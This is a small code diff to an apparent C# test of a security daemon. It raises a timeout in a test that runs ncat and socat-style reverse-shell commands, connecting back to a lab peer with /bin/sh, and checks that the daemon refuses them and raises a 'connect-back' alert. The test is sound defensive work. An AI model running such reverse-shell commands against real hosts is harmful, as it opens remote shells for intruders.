@@ -85,7 +85,9 @@ public sealed class ConnectBackAlertTests
         string[] command = tool == "ncat"
             ? [path!, "-e", "/bin/sh", lab.Peer, AlertLab.ShellPort.ToString(CultureInfo.InvariantCulture)]
             : [path!, $"tcp:{lab.Peer}:{AlertLab.ShellPort}", "exec:/bin/sh"];
-        var r = await lab.RunAsync(3, command);
+        // 10 s: a refused tool exits at once; the margin is for a just-started daemon's first decision on a loaded CI
+        // machine (JIT of the whole decision path, seen past 3 s).
+        var r = await lab.RunAsync(10, command);
         Assert.True(r.ExitCode != 124, $"{tool} was not refused (it ran until the timeout): {r}");
         var alert = await lab.WaitForAlertAsync(a => AlertLab.Rule(a) == "connect-back" && AlertLab.Text(a, "exe").EndsWith(tool, StringComparison.Ordinal));
         Assert.True(alert is not null, $"no connect-back alert for {tool}: " + await lab.DiagnoseAsync());
